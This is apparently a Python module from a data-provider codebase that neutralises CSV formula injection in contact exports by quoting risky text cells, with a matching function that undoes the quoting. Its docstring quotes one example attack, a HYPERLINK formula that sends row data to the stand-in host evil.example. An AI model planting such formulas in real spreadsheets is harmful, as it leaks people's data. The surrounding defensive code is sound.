"""CSV files are for people, Parquet files for machines: CSV cells a spreadsheet would run are neutralised.

A spreadsheet treats a cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return as a
formula (CSV injection: a contact named ``=HYPERLINK("https://evil.example/?"&A1, "click")`` becomes a
link that sends the row away when clicked). Contact files come from outside, so every CSV this provider
writes for a person (the verification result, the finder result, the CleverTap export) goes through
this module, following OWASP's advice: such a text cell gets a leading single quote, which spreadsheets
hide. :func:`restore` removes exactly that quote again, so the text round-trips for display.

Only text is touched: a number column of -5 cannot hold a formula and stays a number. Parquet files keep
every value byte for byte and typed, which is why anything a machine reads back (the load, a later run)
should be Parquet, the default everywhere.

Values pyarrow's CSV writer cannot write at all (lists, structs, maps from a Parquet input; bytes that
are not UTF-8) are written as JSON text (hex for bytes), never a raw pyarrow error after credits were
spent.
"""

from __future__ import annotations

import json
import re
from typing import Any

import pyarrow as pa
import pyarrow.compute as pc

#: Characters that make a spreadsheet cell a formula when they come first.
FORMULA_START = "=+-@\t\r"
# A cell is quoted when its first character after any leading quotes is a formula character: quoting
# "'=x" too is what makes restore() exact for every text.
_RISKY = "^'*[=+\\-@\t\r]"
_RISKY_RE = re.compile(_RISKY)
_QUOTED_RE = re.compile("^'(?='*[=+\\-@\t\r])")
_ISO_UTC = "%Y-%m-%dT%H:%M:%SZ"
_ISO_NAIVE = "%Y-%m-%dT%H:%M:%S"


def neutralise(text: str | None) -> str | None:
    """``text`` safe for a spreadsheet cell: a single quote in front when it could start a formula."""
    return f"'{text}" if text is not None and _RISKY_RE.match(text) else text


def restore(text: str | None) -> str | None:
    """The text :func:`neutralise` was given: ``restore(neutralise(x)) == x`` for every string."""
    return _QUOTED_RE.sub("", text, count=1) if text is not None else None


def restore_array(values: pa.Array | pa.ChunkedArray) -> pa.Array | pa.ChunkedArray:
    """:func:`restore` on a string array, vectorised: for a reader that must take text from a CSV this
    module wrote (Parquet needs nothing of the sort)."""
    return pc.replace_substring_regex(values, "^'('*[=+\\-@\t\r])", "\\1", max_replacements=1)


def neutralise_array(values: pa.Array | pa.ChunkedArray) -> pa.Array | pa.ChunkedArray:
    """:func:`neutralise` on a string array, vectorised."""
    risky = pc.match_substring_regex(values, _RISKY)
    return pc.if_else(risky, pc.binary_join_element_wise("'", values, ""), values)


def _json_text(values: pa.Array | pa.ChunkedArray) -> pa.Array:
    def dumped(value: Any) -> str | None:
        return None if value is None else json.dumps(value, ensure_ascii=False, default=str)

    return pa.array([dumped(v) for v in values.to_pylist()], pa.string())


def _bytes_text(values: pa.Array | pa.ChunkedArray) -> pa.Array:
    """UTF-8 bytes as their text; anything else as hex (pyarrow refuses to write invalid UTF-8)."""
    try:
        return values.cast(pa.string())
    except pa.ArrowInvalid:
        return pa.array([None if v is None else v.hex() for v in values.to_pylist()], pa.string())


def _iso(values: pa.Array | pa.ChunkedArray) -> pa.Array | pa.ChunkedArray:
    """Timestamps as ISO 8601: UTC with "Z" for zoned ones, without a zone for naive ones."""
    type_ = values.type
    if type_.tz is None:
        return pc.strftime(values, _ISO_NAIVE)
    return pc.strftime(values.cast(pa.timestamp(type_.unit, tz="UTC")), _ISO_UTC)


def _written_as_is(type_: pa.DataType) -> bool:
    """Types pyarrow writes itself and that cannot hold a formula (numbers, flags, dates, nulls)."""
    kinds = (pa.types.is_integer, pa.types.is_floating, pa.types.is_boolean, pa.types.is_null)
    more = (pa.types.is_date, pa.types.is_time, pa.types.is_decimal, pa.types.is_duration)
    return any(kind(type_) for kind in (*kinds, *more))


def csv_column(values: pa.Array | pa.ChunkedArray) -> pa.Array | pa.ChunkedArray:
    """One column as it goes into a CSV for people (see the module docstring)."""
    type_ = values.type
    if pa.types.is_dictionary(type_):
        return csv_column(values.cast(type_.value_type))
    if pa.types.is_timestamp(type_):
        return _iso(values)
    if _written_as_is(type_):
        return values
    if pa.types.is_nested(type_):
        return neutralise_array(_json_text(values))
    if pa.types.is_binary(type_) or pa.types.is_large_binary(type_) or pa.types.is_fixed_size_binary(type_):
        return neutralise_array(_bytes_text(values))
    try:
        text = values.cast(pa.string())
    except (pa.ArrowInvalid, pa.ArrowNotImplementedError):
        text = _json_text(values)
    return neutralise_array(text)


def csv_table(table: pa.Table) -> pa.Table:
    """``table`` ready for pyarrow's CSV writer: every column through :func:`csv_column`, header cells
    neutralised like any other cell (input column names come from outside too)."""
    names = [neutralise(name) or "" for name in table.column_names]
    return pa.table([csv_column(c) for c in table.columns], names=names)


def csv_schema(schema: pa.Schema) -> pa.Schema:
    """The schema :func:`csv_table` gives a table of ``schema``.

    What a streaming CSV writer is opened with.
    """
    return csv_table(schema.empty_table()).schema
